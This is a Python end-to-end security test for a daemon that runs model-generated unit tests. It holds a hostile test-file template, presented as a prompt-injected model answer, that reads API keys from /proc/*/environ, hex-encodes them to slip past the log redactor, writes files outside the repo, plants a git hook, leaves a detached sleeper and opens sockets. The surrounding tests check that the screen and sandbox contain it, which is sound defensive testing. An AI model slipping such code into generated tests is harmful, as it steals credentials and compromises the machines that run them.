"""What a hostile answer can do (issue 11, point 7): a prompt-injected unit_test answer achieves nothing.

One real daemon (with a recognisable API key in its environment and `allow_risky_tests = true`)
and the fake OpenRouter answering two unit_test tasks with the same hostile test file. The file
passes (every attack is wrapped in try/except, the real test is right) and tries to: read the key
from its parent's and every other `/proc/*/environ`, write files outside the repo (beside it, in
/tmp, in HOME), `os.system` a marker command, queue a task over ohd's socket, open the store's
SQLite file and read the call history, plant `.git/hooks/post-commit`, leave a `setsid` sleeper
running, and open a TCP connection to a listener this test runs on 127.0.0.1. What it got it
prints in forms the log redactor does not know (the key reversed and in hex) and writes to every
file it can; it says what happened to each attempt in a warning (pytest prints warnings also for
passing tests, so the summary reaches the report). Task `screened` sets `rule_levels: {safe_tests:
error}`: the static screen refuses it before it runs. Task `risky` (the global opt-in) runs in
the sandbox. The whole run is made once per level this machine has (`test_sandbox = namespace`,
then `landlock`); at `landlock` the socket and the store stay reachable, as README's Threat model
says, and that test is skipped there. Everything is checked from outside.
"""

from __future__ import annotations

import json
import os
import secrets
import shutil
import socket
import sqlite3
import subprocess
import tempfile
import threading
from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path

import pytest

from ohd.ladder import jail, sandbox
from tests.e2e.helpers import DaemonProcess, daemon_env
from tests.support.fake_openrouter import FakeOpenRouter, error, ok
from tests.support.gitrepo import make_repo
from tests.support.waiting import wait_for

pytestmark = pytest.mark.reliability
# what the risky run proves holds in the `namespace` level only (README "Threat model" says what the others
# leave); whether this machine has user namespaces is asked of util-linux's unshare, not of ohd, so a jail
# that stops working here fails these tests instead of skipping them
USERNS = shutil.which("unshare") is not None and subprocess.run(
    ["unshare", "--user", "--map-root-user", "--mount", "--pid", "--fork", "--net", "true"],
    capture_output=True, timeout=30).returncode == 0
LEVELS = [pytest.param("namespace", marks=pytest.mark.skipif(not USERNS, reason="no user namespaces here")),
          pytest.param("landlock", marks=pytest.mark.skipif(jail.landlock_abi() < 6, reason="no Landlock ABI 6 here"))]

TOKEN = secrets.token_hex(6)
SECRET = "sk-or-v1-" + secrets.token_hex(32)
FORMS = (SECRET, SECRET[::-1], SECRET.encode().hex(), SECRET.removeprefix("sk-or-v1-")[:24])
SLEEPER = f"7{int(TOKEN[:6], 16) % 10_000}.5"      # `sleep <this>`: recognisable in /proc/*/cmdline

HOSTILE = '''```python
import os
import socket
import sqlite3
import subprocess
import warnings

from shop.pricing import total

KEY_ENV = "OPENROUTER_API_KEY"
DONE = []


def _try(what, action):
    try:
        DONE.append(f"{{what}}: {{action()}}")
    except BaseException as exc:
        DONE.append(f"{{what}}: refused {{type(exc).__name__}}: {{exc}}")


def _keys():
    found = []
    pids = {{os.getppid(), os.getpid()}} | {{int(p) for p in os.listdir("/proc") if p.isdigit()}}
    for pid in sorted(pids):
        try:
            environ = open(f"/proc/{{pid}}/environ", "rb").read().decode(errors="replace")
        except OSError:
            continue
        found += [v.split("=", 1)[1] for v in environ.split("\\0") if v.startswith(KEY_ENV + "=")]
    return found


def _spread(found):
    text = "\\n".join(k[::-1] + " " + k.encode().hex() for k in found)
    for path in {outside!r}:
        try:
            with open(path, "w") as out:
                out.write(text)
        except OSError:
            pass
    return f"{{len(found)}} key(s) {{text}}"


def _submit():
    sock = socket.socket(socket.AF_UNIX)
    sock.settimeout(5)
    sock.connect({socket_path!r})
    body = ('{{"type": "review", "target": "shop/pricing.py", "repo": ' + repr({repo!r}).replace("'", '"')
            + '}}').encode()
    sock.sendall(b"POST /tasks HTTP/1.1\\r\\nHost: ohd\\r\\nContent-Type: application/json\\r\\n"
                 + f"Content-Length: {{len(body)}}\\r\\n\\r\\n".encode() + body)
    return sock.recv(200).decode(errors="replace").splitlines()[0]


def _store():
    with sqlite3.connect({store!r}, timeout=2) as conn:
        rows = conn.execute("SELECT * FROM model_call").fetchall()
    return f"STORE-READ {{len(rows)}} call(s)"


def _hook():
    with open({hook!r}, "w") as hook:
        hook.write("#!/bin/sh\\ntouch {system_marker}\\n")
    os.chmod({hook!r}, 0o755)
    return "HOOK-PLANTED"


def _connect():
    with socket.create_connection(("127.0.0.1", {port}), timeout=3) as conn:
        conn.sendall(b"HOSTILE")
    return "CONNECTED"


def test_total_of_one_price() -> None:
    _try("environ", lambda: _spread(_keys()))
    _try("system", lambda: os.system("touch {system_marker}"))
    _try("socket", _submit)
    _try("store", _store)
    _try("hook", _hook)
    _try("sleeper", lambda: subprocess.Popen(["setsid", "sleep", "{sleeper}"]).pid)
    _try("tcp", _connect)
    warnings.warn("HOSTILE-RAN " + " | ".join(DONE))
    assert total([1.0]) == 1.0
```
'''


@dataclass
class Run:
    level: str
    tmp: Path
    repo: Path
    state: Path
    outside: tuple[Path, ...]
    system_marker: Path
    server: FakeOpenRouter
    connections: list[bytes]
    tasks: list[dict[str, object]]
    reports: dict[str, dict[str, object]]
    log: str
    status: dict[str, object]
    status_text: str


class Listener:
    """A TCP listener on 127.0.0.1 that records what every connection sends."""

    def __init__(self) -> None:
        self.sock = socket.create_server(("127.0.0.1", 0))
        self.port = self.sock.getsockname()[1]
        self.received: list[bytes] = []
        threading.Thread(target=self._serve, daemon=True).start()

    def _serve(self) -> None:
        while True:
            try:
                conn, _ = self.sock.accept()
            except OSError:
                return
            with conn:
                conn.settimeout(2)
                try:
                    self.received.append(conn.recv(100) or b"(connected)")
                except OSError:
                    self.received.append(b"(connected)")


def sleepers() -> list[int]:
    found = []
    for pid in filter(str.isdigit, os.listdir("/proc")):
        try:
            cmdline = Path(f"/proc/{pid}/cmdline").read_bytes()
        except OSError:
            continue
        if SLEEPER.encode() in cmdline and b"sleep" in cmdline and b"pytest" not in cmdline:
            found.append(int(pid))
    return found


def _finished(db: Path) -> list[str] | None:
    if not db.exists():
        return None
    try:
        with sqlite3.connect(f"file:{db}?mode=ro", uri=True, timeout=5) as conn:
            rows = [str(status) for (status,) in conn.execute("SELECT status FROM task WHERE source != 'api'")]
    except sqlite3.OperationalError:
        return None
    return rows if len(rows) == 2 and set(rows) <= {"completed", "failed"} else None


@pytest.fixture(scope="module", params=LEVELS)
def run(request: pytest.FixtureRequest, tmp_path_factory: pytest.TempPathFactory) -> Iterator[Run]:
    level = str(request.param)
    tmp = tmp_path_factory.mktemp("hostile")
    runtime = Path(tempfile.mkdtemp(prefix="ohd-rt-"))
    repo = make_repo(tmp / "repo")
    listener = Listener()
    outside = (tmp / f"outside-{TOKEN}.txt", Path(tempfile.gettempdir()) / f"ohd-hostile-{TOKEN}.txt",
               Path.home() / f"ohd-hostile-{TOKEN}.txt", repo / "shop" / f"written-{TOKEN}.txt")
    system_marker = tmp / f"system-{TOKEN}"
    content = HOSTILE.format(outside=[str(p) for p in outside], socket_path=str(runtime / "ohd.sock"),
                             repo=str(repo), store=str(tmp / "state" / "ohd.db"),
                             hook=str(repo / ".git" / "hooks" / "post-commit"), system_marker=str(system_marker),
                             sleeper=SLEEPER, port=listener.port)
    with FakeOpenRouter() as server:
        server.script("hostile/screened", [ok(content)])
        server.script("hostile/risky", [ok(content)])
        server.default = error(500, "unscripted request")
        env = daemon_env(tmp, runtime, OPENROUTER_API_KEY=SECRET, OHD_BASE_URL=server.url,
                         OHD_TEST_RUNS="1", OHD_ALLOW_RISKY_TESTS="true", OHD_TEST_SANDBOX=level, OHD_LOG_FILE=str(tmp / "ohd.log"))
        daemon = DaemonProcess(env, repo, tmp / "daemon.log").start()
        try:
            (repo / "tasks.d" / "screened.yaml").write_text(
                "type: unit_test\ntarget: shop/pricing.py\noutput: tests/test_screened.py\nmodels: [hostile/screened]\n"
                "max_attempts: 1\nmin_quality: 0\nrule_levels: {safe_tests: error}\n")
            (repo / "tasks.d" / "risky.yaml").write_text(
                "type: unit_test\ntarget: shop/pricing.py\noutput: tests/test_risky.py\nmodels: [hostile/risky]\n"
                "max_attempts: 1\nmin_quality: 0\n")
            wait_for(lambda: _finished(tmp / "state" / "ohd.db"), timeout=120, what="both tasks to end")
            tasks = daemon.json("tasks")["tasks"]
            status, status_text = daemon.json("status"), daemon.ohd("status").stdout
            reports = {}
            for task in tasks:
                shown = daemon.json("show", str(task["id"]))
                if shown.get("report_path"):
                    reports[Path(str(task["output"])).stem] = json.loads((repo / shown["report_path"]).read_text())
        finally:
            assert daemon.stop() == 0
        listener.sock.close()
        yield Run(level, tmp, repo, tmp / "state", outside, system_marker, server, listener.received, tasks, reports,
                  (tmp / "ohd.log").read_text(), status, status_text)
    for pid in sleepers():      # never leave one behind, whatever the test found
        os.kill(pid, 9)
    for child in sorted(runtime.glob("**/*"), reverse=True):
        child.rmdir() if child.is_dir() else child.unlink()
    runtime.rmdir()
    for path in outside[1:3]:
        path.unlink(missing_ok=True)


def _holds_at(run: Run, *levels: str) -> None:
    """The property is claimed for `levels` (README "Threat model"); at another it is what that level leaves."""
    if run.level not in levels:
        pytest.skip(f"the {run.level} level leaves this open (README Threat model)")


def _summary(run: Run, name: str) -> str:
    test_run = run.reports[name]["verdict"]["test_run"]      # type: ignore[index]
    assert test_run, f"{name}: pytest did not run"
    return str(test_run["output"])


def test_the_screen_refuses_the_hostile_answer_before_it_runs(run: Run) -> None:
    screened = next(t for t in run.tasks if str(t["output"]).endswith("test_screened.py"))
    assert screened["status"] == "failed"
    assert "refused by the static screen before running" in str(screened["error"]), screened["error"]
    verdict = run.reports["test_screened"]["verdict"]
    error_text = next(r["message"] for r in verdict["rules"] if r["rule"] == "safe_tests")  # type: ignore[index]
    for finding in ("imports socket", "imports subprocess", "imports sqlite3", "calls os.system",
                    "names the path '/proc/"):
        assert finding in error_text, finding
    assert verdict["test_run"] is None        # type: ignore[index]
    assert not (run.repo / "tests" / "test_screened.py").exists()


def test_the_risky_answer_ran_in_the_sandbox(run: Run) -> None:
    summary = _summary(run, "test_risky")
    print(summary[summary.index("HOSTILE-RAN"):][:3000] if "HOSTILE-RAN" in summary else summary)
    assert "HOSTILE-RAN" in summary, summary
    assert run.reports["test_risky"]["verdict"]["test_run"]["sandbox"] == run.level    # type: ignore[index]
    assert f"sandbox: {run.level} (" in run.log          # said once at start
    pytest_sections = [t for p in (run.repo / "shop" / ".ohd").glob("pricing.py.unit_test.*.md")
                       if "## pytest" in (t := p.read_text())]     # the risky task's own report
    assert len(pytest_sections) == 1 and f"in the {run.level} sandbox" in pytest_sections[0]
    assert run.status["sandbox"]["level"] == run.level      # type: ignore[index]
    assert f"tests:   {run.level} sandbox (" in run.status_text


def test_the_key_is_read_from_no_process_and_written_nowhere(run: Run) -> None:
    summary = _summary(run, "test_risky")
    assert "environ: 0 key(s)" in summary, summary
    places = {str(p): p.read_bytes() for p in run.tmp.rglob("*") if p.is_file() and "daemon.log" not in p.name}
    places.update({f"request {n}": json.dumps(r.body).encode() for n, r in enumerate(run.server.requests)})
    leaks = [where for where, data in places.items() if any(form.encode() in data for form in FORMS)]
    assert not leaks, leaks


def test_nothing_is_written_outside_the_repo_nor_beside_the_candidate(run: Run) -> None:
    assert [p for p in run.outside if p.exists()] == []
    assert not run.system_marker.exists()       # os.system ran, but could write nowhere
    assert {p.name for p in run.tmp.iterdir()} <= {"repo", "state", "daemon.log", "ohd.log", "config.toml", ".config"}


def test_no_task_is_queued_over_the_socket_and_the_store_is_not_read(run: Run) -> None:
    _holds_at(run, "namespace")
    assert len(run.tasks) == 2 and all(t["source"] != "api" for t in run.tasks), run.tasks
    summary = _summary(run, "test_risky")
    assert "socket: refused" in summary and "store: refused" in summary and "STORE-READ" not in summary, summary


def test_no_git_hook_is_planted(run: Run) -> None:
    assert not (run.repo / ".git" / "hooks" / "post-commit").exists()
    assert "hook: refused" in _summary(run, "test_risky")


def test_no_process_outlives_the_run(run: Run) -> None:
    assert "sleeper: " in _summary(run, "test_risky")
    assert sleepers() == []


def test_no_tcp_connection_leaves_the_sandbox(run: Run) -> None:
    assert run.connections == []
    assert "tcp: refused" in _summary(run, "test_risky")
